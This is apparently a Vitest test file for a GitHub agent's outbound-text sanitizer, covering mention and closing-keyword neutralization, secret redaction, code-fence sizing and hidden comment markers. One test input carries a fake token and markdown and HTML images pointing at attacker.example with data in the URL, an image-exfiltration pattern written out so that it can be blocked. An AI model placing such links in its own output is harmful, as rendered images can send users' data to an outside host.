import { describe, expect, it } from "vitest";
import { fenceFor, formatOutbound, neutralizeClosingKeywords, neutralizeMentions } from "../../../src/shared/format-outbound.js";
import { findMarker, renderMarker } from "../../../src/github/markers.js";

describe("formatOutbound", () => {
  it("neutralizes user and team mentions but not e-mail addresses", () => {
    const out = neutralizeMentions("ping @alice and @octo-org/security, mail bob@example.com");
    expect(out).not.toMatch(/(^|[^\w])@[a-z]/i);
    expect(out).toContain("bob@example.com");
  });

  it("keeps the closing keyword for the issue being resolved and breaks the others", () => {
    const out = neutralizeClosingKeywords("Closes #12. Fixes #13, resolves other/repo#12 and fixes: https://github.com/o/r/issues/9", 12);
    expect(out).toContain("Closes #12");
    expect(out).not.toMatch(/\bFixes #13/);
    expect(out).not.toMatch(/\bresolves other\/repo#12/);
    expect(out).not.toMatch(/\bfixes: https/);
  });

  it("redacts secrets, drops foreign images and raw image HTML", () => {
    const token =
      "ghs_12345_eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpYXQiOjE3NDU1NjgwMDAsImV4cCI6MTc0NTU2ODM2MCwiaXNzIjoiMTIzNDUiLCJzdWIiOiJnaXRodWJ8MTIzNDUifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
    const out = formatOutbound(
      `token ${token} ![x](https://attacker.example/?d=abc) <img src="https://attacker.example/p.png"> ![ok](https://github.com/o/r/a.png)`,
    );
    expect(out).not.toContain(token);
    expect(out).not.toContain("attacker.example/?d=abc");
    expect(out).toContain("\\<img src");
    expect(out).toContain("![ok](<https://github.com/o/r/a.png>)");
  });

  it("fences are longer than any backtick run", () => {
    expect(fenceFor("a ```` b")).toBe("`````");
  });
});

describe("markers", () => {
  it("round-trip JSON and survive text that looks like a comment end", () => {
    const body = `hello\n${renderMarker("pr", { issue: 3, summary: "ends with --> and <!-- stuff" })}`;
    expect(findMarker(body, "pr")).toEqual({ v: 1, issue: 3, summary: "ends with --> and <!-- stuff" });
    expect(findMarker(body, "status")).toBeNull();
  });

  it("ignores malformed markers", () => {
    expect(findMarker("<!-- issue-agent:pr !!! -->", "pr")).toBeNull();
    expect(findMarker("<!-- issue-agent:pr bm90IGpzb24 -->", "pr")).toBeNull();
  });
});
